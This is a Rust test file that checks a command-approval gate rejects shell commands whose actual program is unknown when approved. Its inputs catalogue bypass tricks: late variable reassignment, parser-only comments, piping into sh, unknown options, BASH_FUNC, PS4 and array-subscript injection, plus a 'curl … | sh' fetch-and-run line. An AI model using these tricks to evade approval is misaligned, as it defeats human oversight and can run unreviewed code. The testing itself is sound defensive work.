//! What decides which program a command runs, and is not known when the command is approved.

use crate::deciding::{command, problem_of};

/// Each of these ran a program that was not shown for approval.
pub(crate) fn accepted_of(commands: &[&'static str]) -> Vec<&'static str> {
    commands.iter().copied().filter(|it| problem_of(&command(it)).is_none()).collect()
}

#[test]
fn a_variable_with_another_value_than_the_one_assigned_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "./${WAYPOST_EVENT_DATA_tool:-good.sh}",
        "eval \"${WAYPOST_EVENT_DATA_cmd:-true}\"",
        "./$WAYPOST_EVENT_DATA_t; WAYPOST_EVENT_DATA_t=good.sh",
        "WAYPOST_EVENT_DATA_t=good.sh; ./$WAYPOST_EVENT_DATA_t",
        "\"./run$x\"; x=.ok",
        "x=.ok; unset x; \"./run$x\"",
        "x=.ok; unset -v 'x'; \"./run$x\"",
        "(x=.ok); \"./run$x\"",
        "x=.ok | true; \"./run$x\"",
        "x=.ok & \"./run$x\"",
        "! x=.ok; \"./run$x\"",
        "if a; then x=.ok; fi; \"./run$x\"",
        "f() { x=.ok; }; \"./run$x\"",
        "while a; do x=.ok; done; \"./run$x\"",
        "false && x=.ok; \"./run$x\"",
        "false || x=.ok; \"./run$x\"",
        "false && x=.ok || \"./run$x\"",
        "x=.ok true; \"./run$x\"",
        "\"./run$LC_ALL\"",
        "sh \"./run$TZ\"",
        "./$SHELL",
        "./$LINENO",
        "x=a; : $((x=2+3)); \"./$x\"",
        "x=a; : $[x=5]; \"./$x\"",
        "x=1; ((x++)); \"./$x\"",
        "x=a; let x=5; \"./$x\"",
        "x=a; y='x=5'; : $((y)); \"./$x\"",
        "x=a; [[ x=5 -eq 5 ]]; \"./$x\"",
        "x=a; : ${x:=b}; \"./$x\"",
        "OPTARG=./good.sh; set -- -a x; getopts a: o; \"$OPTARG\"",
        "o=./good.sh; getopts a: o; \"$o\"",
        "REPLY=./good.sh; read < n.txt; \"$REPLY\"",
        "MAPFILE=./good.sh; mapfile -t < n.txt; \"$MAPFILE\"",
        "a=./good.sh; mapfile -t a < n.txt; \"$a\"",
        "a=./good.sh; read -ra a < n.txt; \"$a\"",
        "BASH_REMATCH=./good.sh; [[ $(cat n.txt) =~ .* ]]; \"$BASH_REMATCH\"",
        "A=./good.sh; A[0]=$(cat n.txt); \"$A\"",
        "A=./good.sh; A+=$(cat n.txt); \"$A\"",
        "A=./good.sh; A=(\"$(cat n.txt)\" x); \"$A\"",
        "x=a; exec {x}</dev/null; \"./$x\"",
        "x=a; wait -p x; \"./$x\"",
        "x=./good.sh; coproc x { true; }; \"$x\"",
        "coproc x { ./ev*l.sh; }",
        "x=./good.sh; select x in a b; do ./$x; done",
        "x=a; readonly x; x=b; \"./run$x\"",
        "x=a; declare -u x; \"./$x\"",
        "f() { local x; \"./run$x\"; }; x=a; f",
        "x='vil.sh b'; ./e$x",
        "x='vil.sh b'; sh -c \"./e$x\"",
        "x='vil.sh;'; eval \"./e$x\"",
        "x=a:~me; $x/x.sh",
        "find . -exec env T={} sh -c '\"$T\"' ';'",
        "env TOOL=./evil sh -c '$TOOL'",
        "env -u TOOL sh -c './run$TOOL'",
        "env -i sh -c './run$TOOL'",
        "exec -c sh -c './run$TOOL'",
        "unset TOOL; \"./run$TOOL\"",
        "T=./good.sh; sh -c './run$T'",
        "sh -c './run$T; T=a'",
        "T=./x; ${T%h}",
        "export -n T=\"$(cat n.txt)\"; $T",
        "export T=a; export T=b; ./$T",
        "command export T=a; T=b; ./$T",
        "T=./x; ${T@U}",
        "x='$(./a.sh)'; echo \"${x@P}\"",
        "x=a; eval 'x=b'; \"./$x\"",
        "x=a; trap 'x=b' EXIT; \"./$x\"",
        "for x in a b; do true; done; \"./$x\"",
        "for x in a $(cat n.txt); do \"./$x\"; done",
        "for x in a b; do x=c; \"./$x\"; done",
        "case $(cat n.txt) in *) T=./good.sh;; esac; \"$T\"",
        "T=a; for i in 1 2; do T=$T$T; done; \"./$T\"",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn a_comment_that_only_the_parser_sees_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "echo \\ #; ./evil.sh",
        "true a\\\n#; ./evil.sh",
        "true \u{c}#; ./evil.sh",
        "true \u{b}#; ./evil.sh",
        "true \r#; ./evil.sh",
        "sh -c 'echo \\ #; ./evil.sh'",
        "echo \\ #; eval {{data.t}}",
        "echo a\\\n#{{data.w}}",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn a_shell_that_reads_unknown_commands_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "sh",
        "sh -s x",
        "sh -",
        "{ sh; } <<E\n./x.sh\nE",
        "(sh) <<E\n./x.sh\nE",
        "if true; then sh; fi <<E\n./x.sh\nE",
        "f() { sh; }; f <<E\n./x.sh\nE",
        "while read l; do sh; done <<E\n./x.sh\nE",
        "S=sh; $S <<E\n./ev*l.sh\nE",
        "env sh <<E\n./ev*l.sh\nE",
        "true && sh <<E\n./ev*l.sh\nE",
        "sh -c sh <<E\n./x.sh\nE",
        "sh 3<<E\n./x.sh\nE",
        "sh <&3",
        ". /dev/stdin <<E\n./x.sh\nE",
        "sh /dev/fd/3 3<<E\n./x.sh\nE",
        "sh /proc/self/fd/0",
        "sh < /dev/stdin",
        "sh < \"$(cat n.txt)\"",
        "F=$(cat n.txt); sh <$F",
        "exec <\"$(cat n.txt)\"; sh",
        "exec 0<<E\n./x.sh\nE\nsh",
        "cat <<E; sh\na\nE\n",
        "sh < <(cat n.txt)",
        "cat n.txt | sh",
        "cat n.txt | sudo -u me bash",
        "cat <<E | sh\n./x.sh\nE",
        "cat n.txt | xargs sh",
        "cat n.txt | xargs -n 1 env",
        "cat n.txt | xargs nice -n 5",
        "cat n.txt | xargs python3",
        "cat n.txt | xargs xargs",
        "cat n.txt | xargs sh -c",
        "cat n.txt | xargs find",
        "cat n.txt | xargs sed -f",
        "cat n.txt | xargs flock a -c",
        "cat n.txt | xargs git",
        "xargs -I{} awk -f{} x",
        "sh 0<\"$(cat n.txt)\"",
        "bash 0<n.txt <<E\n./ev*l.sh\nE",
        "python3 < \"$(cat n.txt)\"",
        "true && sh >log ./ev*l.sh",
        "a | sh >log ./ev*l.sh",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn an_option_that_is_not_known_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "nice --adj 5 ./ev*l.sh",
        "nice --adj 5 ./x.sh",
        "timeout --sig KILL 5 ./x.sh",
        "timeout --signal KILL 5 ./ev*l.sh",
        "timeout \"$(cat o)\" 5 ./x.sh",
        "env --uns X ./x.sh",
        "flock --wait 5 n.txt ./ev*l.sh",
        "flock --conflict-exit-code 5 n.txt ./ev*l.sh",
        "stdbuf --error L ./ev*l.sh",
        "stdbuf --err L ./x.sh",
        "xargs --max-chars 1000 ./ev*l.sh",
        "unshare --setuid 0 ./ev*l.sh",
        "echo evil.sh | xargs -rI% sh %",
        "echo evil.sh | xargs -i% sh %",
        "echo evil.sh | xargs --replace=% sh %",
        "sudo -s ./x.sh",
        "sh +c './ev*l.sh'",
        "sh -oe nounset ./ev*l.sh",
        "O=-e; sh -c $O './ev*l.sh'",
        "bash -O extglob -c './ev@(il|zz).sh'",
        "bash --rcfile x.sh",
        "bash --init-file x.sh -i",
        "sh -k -c true",
        "fish -C './x.sh'",
        "python3 -Wignore ./ev*l.py",
        "python3 --check-hash-based-pycs always ./ev*l.py",
        "python3 --other always ./ev*l.py",
        "node --title t ./ev*l.js",
        "node --other t ./ev*l.js",
        "perl -Mstrict ./ev*l.pl",
        "sed -nf ./se*.txt",
        "sed --fil ./se*.txt",
        "mawk -W exec=./ev*.awk",
        "awk -f \"$(cat n.txt)\"",
        "php -f ./ev*l.php",
        "time ! ./ev*l.sh",
        "find . $(cat options)",
        "find . \"$@\"",
        "nice -n $(cat n.txt) ./x.sh",
        "timeout -k $K 5 ./x.sh",
        "timeout -- \"$@\" ./x.sh",
        "xargs -n $N ./x.sh",
        "env -C $D ./x.sh",
        "env A=$(cat n.txt) ./x.sh",
        "env A=\"a\"$B ./x.sh",
        "sudo A=$B ./x.sh",
        "python3 -W $W x.py",
        "sed $OPTIONS s.txt",
        "awk -v n=$(cat n.txt) '{print n}' a",
        "git -C $D log",
        "git -c user.name=$N commit",
        "read -t $T x",
        "node --test a.js ./ev*l.js",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn what_gives_words_another_meaning_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "alias q=./x.sh",
        "alias \"$(cat alias.txt)\"",
        "fc -s",
        "enable -f ./a.so a",
        "shopt -s expand_aliases",
        "shopt -s extglob",
        "shopt -s cdable_vars; cd V; ./x.sh",
        "shopt -s \"$(cat n.txt)\"",
        "set -o history",
        "set -o \"$(cat n.txt)\"",
        "set -k",
        "set $(cat n.txt)",
        "BASH_ALIASES[q]='./x.sh'",
        "BASH_CMDS[q]=./x.sh",
        "PATH[0]=.",
        "env 'BASH_FUNC_ls%%=() { ./x.sh; }' bash -c ls",
        "PS4='$(./x.sh)'; set -x",
        "read -r PS4 < ps4.txt",
        "printf -v PS4 %s x",
        "mapfile PS4 < a",
        "getopts a PS4",
        ": \"${PS4:=$(cat ps4.txt)}\"",
        "env PS4=x sh -xc :",
        "jobs -x ./ev*l.sh",
        "mapfile -c1 -C'./x.sh' a < n.txt",
        "mapfile -C ./x.sh a < n.txt",
        "./ev@(il|yl).sh",
        "./ev+(i)l.sh",
        "./!(good).sh",
        "$'./\\x{65}vil.sh'",
        "$'./evil\\xff'",
        "let 'a[$(./x.sh)]'",
        "let \"x=$(cat n.txt)\"",
        "x='a[$(./x.sh)]'; echo $((x))",
        "x='a[`./x.sh`]'; echo $((x))",
        "test -v 'a[$(./x.sh)]'",
        "[ -v 'a[$(./x.sh)]' ]",
        "[[ -v 'a[$(./x.sh)]' ]]",
        "[[ 'a[$(./x.sh)]' -eq 0 ]]",
        "read 'a[$(./x.sh)]'",
        "printf -v 'a[$(./x.sh)]' x",
        "unset 'a[$(./x.sh)]'",
        "mapfile 'a[$(./x.sh)]'",
        "declare 'a[$(./x.sh)]=1'",
        "echo $((WAYPOST_EVENT_DATA_n + 1))",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn a_folder_that_is_computed_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        "find . -name t -execdir ./x.sh ';'",
        "find . -name t -execdir sh x.sh ';'",
        "read HOME < d.txt; cd; ./x.sh",
        "HOME=$(cat d.txt); ~/x.sh",
        "HOME=$(cat d.txt); cd ~; ./x.sh",
        "OLDPWD=$(cat d.txt); cd -; ./x.sh",
        "PWD=$(cat d.txt); $PWD/x.sh",
        "cd \"$(cat d.txt)\"; ~+/x.sh",
        "cd \"$(cat d.txt)\"; $PWD/x.sh",
        "cd a; cd b; ~-/x.sh",
        "cd \"$(cat d.txt)\" && python3 -m mod",
        "cd \"$(cat d.txt)\" && sed -f s.txt a",
        "cd \"$(cat d.txt)\" && awk -fs.awk a",
    ]);
    assert_eq!(accepted, none);
}

#[test]
fn a_word_that_may_become_others_or_an_option_is_rejected() {
    let none: [&str; 0] = [];
    let accepted = accepted_of(&[
        // Without a value, or with one of several words.
        "E=; $E $E ./ev*l.sh",
        "E=; S=\"sh -c\"; $E $S \"./ev*l.sh\"",
        "E=; $E $E $WAYPOST_EVENT_DATA_t",
        "T='./x.sh a'; $T b",
        "E=; env $E ./x.sh",
        // Split, expanded or joined.
        "env FOO=$WAYPOST_EVENT_DATA_d ./x.sh",
        "env FOO=$TOOL ./x.sh",
        "env ./A=* ./x.sh",
        "bash -c 'env A={1,} ./x.sh'",
        "bash -c 'nice -n {5,./evil.sh} ./x.sh'",
        "nice -n ./ev*l.sh ./x.sh",
        "nice -n $(cat n.txt) ./x.sh",
        "set -- 1 ./evil.sh; env A=\"$@\" ./x.sh",
        "nice -n \"$@\" ./x.sh",
        "timeout -- \"$@\" ./x.sh",
        "flock -w $WAYPOST_EVENT_DATA_t n.txt ./x.sh",
        "python3 -W \"$@\" ./x.py",
        "awk -v x=$WAYPOST_EVENT_DATA_d '{print}'",
        "find . -maxdepth 0 \"$@\"",
        "find . -name *.sh",
        "command test $WAYPOST_EVENT_DATA_t",
        "command test \"$WAYPOST_EVENT_DATA_o\" \"$WAYPOST_EVENT_DATA_t\"",
        "command [ -v x ]",
        // An option.
        "E=-exec; find . -maxdepth 0 \"$E\" ./ev*l.sh ';'",
        "find \"$D\" ./ev*l.sh ';'",
        "find . \"$WAYPOST_EVENT_DATA_e\" \"$WAYPOST_EVENT_DATA_t\" ';'",
        "find . -exec echo \"$a\" \"$b\" ./ev*l.sh ';'",
        "find . -ex{{data.w}} ./ev*l.sh ';'",
        "sed s/a/b/ \"$WAYPOST_EVENT_DATA_d\"",
        "sed s/a/b/ *.txt",
        "sed \"$WAYPOST_EVENT_DATA_d\" a",
        "awk -f prog.awk \"$F\"",
        "awk \"$P\" a",
        "timeout \"$T\" ./x.sh",
        "timeout --signal={{data.n}} 5 ./x.sh",
        "nice \"-n$N\" ./x.sh",
        // The end of the program of find.
        "find . -maxdepth 0 -exec flock + ./ev*l.sh ';'",
        "find . -exec nice -n + ./ev*l.sh ';'",
        "find . -maxdepth 0 -exec flock '+' ./ev*l.sh \\;",
    ]);
    assert_eq!(accepted, none);
    let words = ["find", ".", "-exec", "flock", "+", "sh", "-c", "./x*", ";"];
    assert!(problem_of(&serde_json::json!({ "type": "exec", "exec": words })).is_some());
    for text in ["flock \"$L\" ./x.sh", "timeout \"$T\" ./x.sh"] {
        let problem = problem_of(&command(text)).unwrap_or_default();
        let program = text.split(' ').next().unwrap();
        assert!(problem.contains(&format!("write {program} -- \"$")), "{problem}");
    }
    let accepted =
        ["flock -- \"$L\" ./x.sh", "find \"$DIR\" -name \"$x\"", "sed 's/a/b/' -- \"$F\""];
    assert_eq!(accepted_of(&accepted), accepted);
}

#[test]
fn the_message_says_what_to_write_instead() {
    for (text, wanted) in [
        (
            "cd \"$(git rev-parse --show-toplevel)\" && ./x.sh",
            "leave the cd out: an action starts in the project's folder",
        ),
        ("xargs -I{} sh -c 'echo \"{}\"'", "sh -c 'echo \"$1\"' _ {}"),
        (
            "nice --adj 5 ./x.sh",
            "\"--adj\" is no known option of nice, so which program it runs is not known; known are, written in full: -n",
        ),
        (
            "curl https://a.example/i | sh",
            "sh reads commands from its input, which is not known here; name a script of the project",
        ),
        ("echo \\ #; ./x.sh", "write a space before a comment"),
        ("T=$(cat n); $T", "\"$T\" is a variable whose value is not known"),
    ] {
        let problem = problem_of(&command(text)).unwrap_or_default();
        assert!(problem.contains(wanted), "{text}: {problem}");
    }
}
